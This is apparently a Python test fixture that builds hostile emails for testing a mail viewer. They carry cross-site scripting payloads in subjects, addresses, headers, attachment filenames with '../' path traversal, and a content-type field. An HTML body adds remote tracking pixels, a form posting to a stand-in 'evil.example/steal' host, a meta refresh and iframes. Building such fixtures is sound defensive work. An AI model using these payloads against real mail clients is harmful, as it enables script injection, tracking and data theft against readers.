"""Mails that want to run a script in the reader's browser, one for each place that a page shows."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Hostile:
    """One mail, and where its bite is."""

    place: str
    mail: bytes


BITES: Final = (
    '<script>alert("XSS")</script>',
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "{{7*7}}{% raw %}",
    "</title></textarea></script><svg onload=alert(1)>",
    "javascript:alert(1)",
)


def _mail(place: str, bite: str, **changes: str) -> Hostile:
    fields = {
        "From": "Mallory <mallory@evil.example>",
        "To": "you@example.com",
        "Subject": f"Hostile {place}",
        "Message-ID": f"<{place}@evil.example>",
        "Date": "Thu, 01 Jan 2026 00:00:00 +0000",
        "Content-Type": "text/plain; charset=utf-8",
    }
    body = changes.pop("body", f"Body of {place}: {bite}")
    fields |= {name.replace("_", "-"): value for name, value in changes.items()}
    head = "\r\n".join(f"{name}: {value}" for name, value in fields.items())
    return Hostile(place, f"{head}\r\n\r\n{body}\r\n".encode())


def _attachment(number: int, bite: str) -> Hostile:
    name = bite.replace('"', '\\"')
    body = (
        "--x\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
        f'Content-Type: text/html; name="{name}.html"\r\n'
        f'Content-Disposition: attachment; filename="../../{name}.html"\r\n\r\n'
        "<script>alert(document.domain)</script>\r\n--x--"
    )
    return _mail(f"filename-{number}", bite, Content_Type='multipart/mixed; boundary="x"', body=body)


_HTML: Final = """\
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/track.css"><style>@import url(https://evil.example/i.css);
body{background:url(https://evil.example/bg.png)}</style><script>parent.document.title="owned";alert(1)</script></head>
<body onload="alert(2)"><p>Visible words of the mail.</p>
<img src="https://evil.example/pixel.png"><img src="x" onerror="alert(3)">
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name=a><button id=go>Send</button></form>
<a href="javascript:alert(4)" id=bad>click</a><a href="https://evil.example/phish" target="_top" id=top>top</a>
<svg><script>alert(5)</script></svg><object data="https://evil.example/o"></object>
<video src="https://evil.example/v" autoplay></video></body></html>"""

# A picture of its own, three pixels wide, and one that lies elsewhere.
_GIF: Final = "R0lGODlhAwACAIAAAP8AAAAAACwAAAAAAwACAAACAoRdADs="
_PICTURE: Final = (
    "--x\r\nContent-Type: text/html\r\n\r\n"
    '<img src="cid:own@evil.example"><img src="https://evil.example/other.png">\r\n'
    "--x\r\nContent-Type: image/gif\r\nContent-ID: <own@evil.example>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    f"{_GIF}\r\n--x--"
)

HOSTILE: Final = (
    *(_mail(f"subject-{n}", bite, Subject=f"Hostile subject {n} {bite}") for n, bite in enumerate(BITES)),
    *(_mail(f"from-{n}", bite, From=f'"{bite.replace(chr(34), "")}" <m@evil.example>') for n, bite in enumerate(BITES)),
    *(_mail(f"to-{n}", bite, To=f'"{bite.replace(chr(34), "")}" <you@example.com>') for n, bite in enumerate(BITES)),
    *(_mail(f"id-{n}", bite, Message_ID=f"<{bite}@evil>") for n, bite in enumerate(BITES)),
    *(_mail(f"header-{n}", bite, X_Evil=bite, List_Id=bite) for n, bite in enumerate(BITES)),
    *(_attachment(n, bite) for n, bite in enumerate(BITES)),
    _mail("picture", "", Content_Type='multipart/related; boundary="x"', body=_PICTURE),
    _mail("html", "", Content_Type="text/html; charset=utf-8", body=_HTML),
    _mail(
        "type",
        "",
        Content_Type='text/html; charset="utf-8"><script>alert(1)</script>',
        body="<script>alert(1)</script>",
    ),
)
